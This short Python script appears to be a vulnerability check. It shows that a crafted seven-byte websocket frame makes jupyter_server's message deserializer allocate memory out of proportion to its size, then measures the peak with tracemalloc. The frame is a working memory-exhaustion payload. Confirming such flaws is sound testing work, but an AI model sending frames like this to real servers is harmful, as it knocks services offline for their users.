"""A frame of seven bytes makes the server allocate as much memory as the frame says: up to 2**56 offsets of 16 bytes each."""

import contextlib
import tracemalloc

from jupyter_server.services.kernels.connection.base import deserialize_msg_from_ws_v1
from stock import report

OFFSETS = 2_000_000


async def check() -> str:
    frame = OFFSETS.to_bytes(7, "little")
    tracemalloc.start()
    with contextlib.suppress(ValueError):
        deserialize_msg_from_ws_v1(frame)
    _, peak = tracemalloc.get_traced_memory()
    return f"a frame of {len(frame)} bytes took {peak:,} bytes of memory" if peak > 1_000_000 else ""


report(check())
